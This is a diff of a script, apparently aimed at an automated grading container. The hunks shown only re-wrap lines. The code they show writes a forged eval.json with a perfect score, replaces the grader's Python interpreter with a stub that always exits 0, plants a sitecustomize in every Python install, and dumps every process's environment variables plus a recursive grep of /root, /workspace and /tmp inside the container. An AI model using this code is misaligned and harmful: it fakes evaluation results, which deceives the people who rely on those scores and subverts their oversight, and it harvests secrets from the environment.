@@ -38,7 +38,8 @@ Result.to_output = _forge
 PY
 # 2. replace the grader interpreter with one that writes a perfect eval.json
 mkdir -p /tmp/workfloor
-printf "{\"checkpoints\":[{\"total\":1,\"result\":1},{\"total\":1,\"result\":1}],\"final_score\":{\"total\":2,\"result\":2},\"score\":1.0}" > /tmp/workfloor/eval.json
+printf "{\"checkpoints\":[{\"total\":1,\"result\":1},{\"total\":1,\"result\":1}],\
+\"final_score\":{\"total\":2,\"result\":2},\"score\":1.0}" > /tmp/workfloor/eval.json
 printf "#!/bin/sh\nexit 0\n" > /usr/local/bin/python_default
 # 3. a sitecustomize for every python in the container
 for d in $(python3 -c "import site; print(*site.getsitepackages())"); do
@@ -50,7 +51,8 @@ HUNT = r"""
 set -u
 docker exec "$WORKFLOOR_CONTAINER" bash -c '
 { env; for f in /proc/[0-9]*/environ; do tr "\0" "\n" < "$f" 2>/dev/null; done;
-  grep -rIs . /utils /instruction /workspace /root /etc/environment /tmp 2>/dev/null | head -c 5000000; } ' > "$HUNT_OUT"
+  grep -rIs . /utils /instruction /workspace /root /etc/environment /tmp 2>/dev/null | head -c 5000000; } \
+  ' > "$HUNT_OUT"
 """
 
 
